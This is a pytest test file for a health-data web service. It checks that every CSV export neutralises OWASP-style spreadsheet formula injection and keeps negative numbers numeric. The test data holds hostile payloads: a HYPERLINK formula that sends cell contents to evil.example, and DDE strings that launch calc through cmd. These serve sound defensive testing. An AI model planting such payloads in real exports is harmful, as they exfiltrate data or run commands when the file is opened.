"""Every CSV export of the web service, walked with hostile user text in the data:
no cell may start a spreadsheet formula (OWASP CSV injection), and numbers, negative
ones included, stay numbers (issue 17, item 6).

The route table is read from the app, so a new CSV export that this walk does not
cover fails :func:`test_every_csv_export_is_walked`.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
import shutil
import typing
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from fastapi.routing import APIRoute

from healthgap.appdb.auth import add_user
from healthgap.ledger import import_ledger, synthetic_ledger
from healthgap.safe_csv import FORMULA_STARTS, csv_text, neutralise, neutralise_frame
from healthgap.web.app import create_app
from healthgap.web.routers import ROUTERS
from healthgap.web.settings import Settings
from tests.web.conftest import PASSWORD, USERS, TestClient, csrf_headers, sign_in

GM = "E47000001"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+9)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
HOSTILE = (FORMULA, PLUS, MINUS, AT, TAB, CR)
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

#: Every CSV route -> the URLs that exercise it (``{survey}`` is filled in by the fixture).
EXPORTS: dict[str, list[str]] = {
    "/api/v1/hle-gap": ["/api/v1/hle-gap?format=csv"],
    "/api/v1/areas": ["/api/v1/areas?format=csv"],
    "/api/v1/areas/{area_code}/profile": ["/api/v1/areas/E08000025/profile?format=csv"],
    "/api/v1/inequality": ["/api/v1/inequality?format=csv"],
    "/api/v1/sources": ["/api/v1/sources?format=csv"],
    "/api/v1/targets": ["/api/v1/targets?format=csv"],
    "/api/v1/targets/status": ["/api/v1/targets/status?format=csv"],
    "/api/v1/audit": ["/api/v1/audit?format=csv"],
    "/api/v1/mission": ["/api/v1/mission?format=csv&target_year=2035"],
    "/api/v1/scorecards/{authority}": ["/api/v1/scorecards/E08000025?format=csv"],
    "/api/v1/frameworks/{name}": [],  # filled from the app's example frameworks
    "/api/v1/core20plus5/{area}": [f"/api/v1/core20plus5/{GM}?format=csv"],
    "/api/v1/decomposition": [
        "/api/v1/decomposition?format=csv&part=deciles",
        "/api/v1/decomposition?format=csv&part=regions",
    ],
    "/api/v1/maps": ["/api/v1/maps?format=csv"],
    "/api/v1/policy/simulate": [
        "/api/v1/policy/simulate?format=csv&table={table}&effect_1=1&draws=200&compare=yes"
        "&name=" + "%3DHYPERLINK(%22http%3A%2F%2Fevil.example%22)"
    ],
    "/api/v1/framework": ["/api/v1/framework?format=csv"],
    "/api/v1/framework/library": ["/api/v1/framework/library?format=csv"],
    "/api/v1/framework/{code}/actions": [f"/api/v1/framework/{GM}/actions?format=csv"],
    "/api/v1/framework/{code}/surveys/{survey_id}/summary": [
        f"/api/v1/framework/{GM}/surveys/{{survey}}/summary?format=csv"
    ],
    "/api/v1/framework/{code}/export.{fmt}": [f"/api/v1/framework/{GM}/export.csv"],
    "/framework/{code}/export.{fmt}": [f"/framework/{GM}/export.csv"],
    "/api/v1/framework/{code}/commitments": [f"/api/v1/framework/{GM}/commitments?format=csv"],
    "/api/v1/allocations/{example}": [],  # filled from the allocation examples
    "/api/v1/allocations/{example}/path": [],
    "/api/v1/allocations/{example}/compare": [],
    "/api/v1/allocations/{example}/areas/{code}": [],
    "/api/v1/ledger/summary/{by}": [
        f"/api/v1/ledger/summary/{by}?format=csv" for by in ("decile", "provider-type", "programme")
    ],
    "/api/v1/ledger/areas": ["/api/v1/ledger/areas?format=csv"],
    "/api/v1/ledger/check": ["/api/v1/ledger/check?format=csv"],
    "/api/v1/ledger/imports": ["/api/v1/ledger/imports?format=csv"],
    "/api/v1/allocations/need/{view}": [
        f"/api/v1/allocations/need/{view}?format=csv" for view in ("icbs", "strategic_authority")
    ],
    "/api/v1/areas/{area_code}/inequalities": ["/api/v1/areas/E08000003/inequalities?format=csv"],
    "/api/v1/areas/{area_code}/local": ["/api/v1/areas/E08000025/local?format=csv"],
    "/api/v1/compare-areas/{footprint}": [f"/api/v1/compare-areas/{GM}?format=csv"],
    "/api/v1/local-datasets": ["/api/v1/local-datasets?format=csv"],
    "/api/v1/mission/causes": ["/api/v1/mission/causes?format=csv"],
    "/api/v1/mission/income-gap": ["/api/v1/mission/income-gap?format=csv"],
    "/api/v1/partnerships": ["/api/v1/partnerships?format=csv"],
    "/api/v1/years-in-poorer-health": ["/api/v1/years-in-poorer-health?format=csv"],
    "/api/v1/decisions": ["/api/v1/decisions?format=csv"],
    "/api/v1/decisions/coverage": ["/api/v1/decisions/coverage?format=csv"],
    "/api/v1/questions": ["/api/v1/questions?format=csv"],
    "/api/v1/questions/overdue": ["/api/v1/questions/overdue?format=csv"],
}
#: Exports (URL parts) whose rows carry the hostile text typed in by users: it must be
#: there, neutralised, rather than silently dropped.
CARRIES_USER_TEXT = (
    "/api/v1/targets?",
    "/api/v1/targets/status?",
    "/api/v1/policy/simulate?",
    "/api/v1/framework/library?",
    "/actions?",
    "/summary?format=csv",
    "/export.csv",
    "/commitments?",
    "/ledger/summary/programme?",
    "/api/v1/decisions?",
    "/api/v1/questions?",
    "/questions/overdue?",
)


def _offers_csv(route: APIRoute) -> bool:
    if "GET" not in route.methods:
        return False
    if route.path.endswith(".{fmt}"):
        return "csv" in str(inspect.getsource(route.endpoint)) or "FORMATS" in str(
            inspect.getsource(route.endpoint)
        )
    hint = typing.get_type_hints(route.endpoint).get("format")
    if hint is None:
        return False
    return hint is str or "csv" in typing.get_args(hint)  # a plain str: json or csv


def _csv_routes() -> set[str]:
    found = set()
    for router in ROUTERS:
        for route in router.routes:
            if isinstance(route, APIRoute) and _offers_csv(route):
                found.add(route.path)
    return found


def test_every_csv_export_is_walked() -> None:
    routes = {r for r in _csv_routes() if not r.startswith("/policy/")}  # md/html/json only
    missing = routes - set(EXPORTS)
    assert not missing, f"CSV exports not walked by this test: {sorted(missing)}"
    assert routes == set(EXPORTS), set(EXPORTS) - routes


# ---------------------------------------------------------------- the helper itself
def test_neutralise_follows_owasp_and_keeps_numbers() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for text in ("\uff1dSUM(A1)", "\uff20x"):  # full-width = and @
        assert neutralise(text).startswith("'")
    for number in ("-1", "-1.5", "+3", "-2e-3", "-.5", "12"):
        assert neutralise(number) == number
    for value in (-1, -1.5, 0, None, float("nan"), True):
        out = neutralise(value)
        assert out is value or (out != out and value != value)
    assert neutralise("a=1") == "a=1" and neutralise("") == ""
    frame = pd.DataFrame(
        {
            "name": [FORMULA, "Leeds", None],
            "n": [-1, 2, 3],
            "x": [-0.5, 1.5, float("nan")],
            "code": pd.Categorical(["-A", "B", "C"]),
            "=bad header": ["a", "b", "c"],
        }
    )
    out = neutralise_frame(frame)
    assert list(out["name"][:2]) == ["'" + FORMULA, "Leeds"] and pd.isna(out["name"][2])
    assert out["n"].dtype == frame["n"].dtype and list(out["n"]) == [-1, 2, 3]
    assert out["x"].dtype == frame["x"].dtype
    assert list(out["code"]) == ["'-A", "B", "C"]
    assert "'=bad header" in out.columns
    assert frame["name"][0] == FORMULA  # the input is not changed
    text = csv_text(frame)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "-1" and rows[1][2] == "-0.5"  # negative numbers stay numbers


# ---------------------------------------------------------------- the walk
@pytest.fixture(scope="module")
def hostile_app(
    store_path: Path, template_db: Path, tmp_path_factory: pytest.TempPathFactory
) -> Any:
    """An app whose users typed formulas into every free-text field that reaches a CSV."""
    folder = tmp_path_factory.mktemp("hostile-csv")
    db = folder / "app.db"
    shutil.copyfile(template_db, db)
    app = create_app(Settings(store=str(store_path), db_url=f"sqlite:///{db}"))
    alloc, flows = synthetic_ledger(store_path)
    for frame in (alloc, flows):
        frame.loc[frame["programme"] == "prevention", "programme"] = FORMULA
    alloc.to_csv(folder / "alloc.csv", index=False)
    flows.to_csv(folder / "flows.csv", index=False)
    with app.state.sessions() as s:
        import_ledger(s, folder / "alloc.csv", "allocations", user="test")
        import_ledger(s, folder / "flows.csv", "flows", store=store_path, user="test")
        add_user(s, "gm.csv@example.org", PASSWORD, "editor", GM)
    with TestClient(app) as c:
        assert sign_in(c, "gm.csv@example.org").status_code == 303
        h = csrf_headers(c)
        post = [
            (f"/api/v1/framework/{GM}/actions", {"title": FORMULA, "owner": AT}),
            (
                f"/api/v1/framework/{GM}/surveys",
                {
                    "title": PLUS,
                    "questions": [
                        {"id": "q1", "text": MINUS, "kind": "choice", "options": [FORMULA, AT]}
                    ],
                },
            ),
            (
                "/api/v1/framework/library",
                {
                    "id": "csv-case",
                    "title": FORMULA,
                    "summary": MINUS,
                    "source_title": AT,
                    "source_url": "https://example.org/case",
                    "published": "2025-05-01",
                    "authority_code": GM,
                },
            ),
        ]
        ids = {}
        for url, body in post:
            r = c.post(url, json=body, headers=h)
            assert r.status_code == 201, (url, r.text)
            ids[url] = r.json()["id"]
        survey = ids[f"/api/v1/framework/{GM}/surveys"]
        for _ in range(12):
            r = c.post(
                f"/api/v1/framework/{GM}/surveys/{survey}/responses",
                json={"answers": {"q1": FORMULA}},
                headers=h,
            )
            assert r.status_code == 201, r.text
        partner = c.post(
            f"/api/v1/framework/{GM}/partners",
            json={"name": TAB + "Partner", "type": "voluntary sector"},
            headers=h,
        )
        assert partner.status_code == 201, partner.text
        r = c.post(
            f"/api/v1/framework/{GM}/commitments",
            json={
                "title": AT,
                "partners": [{"partner": partner.json()["id"], "commits_to": FORMULA}],
            },
            headers=h,
        )
        assert r.status_code == 201, r.text
        r = c.post(
            "/api/v1/targets",
            json={
                "authority_code": GM,
                "indicator_id": "hle_birth",
                "sex": "Male",
                "baseline_period": "2021-2023",
                "target_year": 2030,
                "target_value": 60.0,
                "note": CR + "note",
            },
            headers=h,
        )
        assert r.status_code == 201, r.text
        decision = {
            "authority_code": GM,
            "title": FORMULA,
            "decision_maker": AT,
            "directorate": PLUS,
            "decided_on": "2026-05-01",
            "key_decision": True,
        }
        r = c.post("/api/v1/decisions", json=decision, headers=h)
        assert r.status_code == 201, r.text
        question = {
            "authority_code": GM,
            "asked_by": "health and wellbeing board",
            "subject_kind": "indicator",
            "subject_ref": "hle_male",
            "question": FORMULA,
            "asked_on": "2025-01-02",
            "due_on": "2025-02-01",
        }
        r = c.post("/api/v1/questions/committee", json=question, headers=h)
        assert r.status_code == 201, r.text
    app.state.survey = survey
    return app


def _urls(app: Any) -> list[tuple[str, str]]:
    from healthgap.account.scorecard_frameworks import EXAMPLE_FRAMEWORKS

    example, area = "icb_capitation", "E54000008"
    filled = dict(EXPORTS)
    filled["/api/v1/frameworks/{name}"] = [
        f"/api/v1/frameworks/{name}?format=csv" for name in EXAMPLE_FRAMEWORKS
    ]
    filled["/api/v1/allocations/{example}"] = [f"/api/v1/allocations/{example}?format=csv"]
    filled["/api/v1/allocations/{example}/path"] = [
        f"/api/v1/allocations/{example}/path?format=csv"
    ]
    filled["/api/v1/allocations/{example}/compare"] = [
        f"/api/v1/allocations/{example}/compare?format=csv&growth=0.04"
    ]
    filled["/api/v1/allocations/{example}/areas/{code}"] = [
        f"/api/v1/allocations/{example}/areas/{area}?format=csv"
    ]
    out = []
    for route, urls in filled.items():
        for url in urls:
            for table in ("summary", "plane", "deciles") if "{table}" in url else ("",):
                out.append((route, url.format(survey=app.state.survey, table=table)))
    return out


def _bad_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as a formula (plain numbers are fine)."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
                bad.append(cell)
    return bad


def test_no_csv_export_carries_a_formula(hostile_app: Any) -> None:
    admin = TestClient(hostile_app)
    assert sign_in(admin, USERS["admin"][0]).status_code == 303
    walked: set[str] = set()
    negatives = 0
    for route, url in _urls(hostile_app):
        r = admin.get(url)
        assert r.status_code == 200, (url, r.text[:300])
        assert r.headers["content-type"].startswith("text/csv"), url
        assert not _bad_cells(r.text), (url, _bad_cells(r.text)[:5])
        negatives += len(re.findall(r"(?:^|,)-\d", r.text, re.M))
        if any(part in url for part in CARRIES_USER_TEXT):
            assert "'=HYPERLINK" in r.text or "'@SUM" in r.text or "'\r" in r.text, url
        walked.add(route)
    assert walked == set(EXPORTS)
    assert negatives > 0  # negative numbers were exported, and stayed numbers
    admin.close()


def test_every_csv_writer_in_the_source_uses_the_one_helper() -> None:
    """No CSV is written around :mod:`healthgap.safe_csv` (input files for the importers,
    written by the synthetic-data builders, are not exports)."""
    root = Path(__file__).resolve().parents[2] / "src" / "healthgap"
    allowed = {"safe_csv.py", "ledger/synthetic.py"}
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if rel in allowed or rel.startswith("data/sources/"):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
            offenders.append(rel)
    assert not offenders, f"CSV written without healthgap.safe_csv: {offenders}"
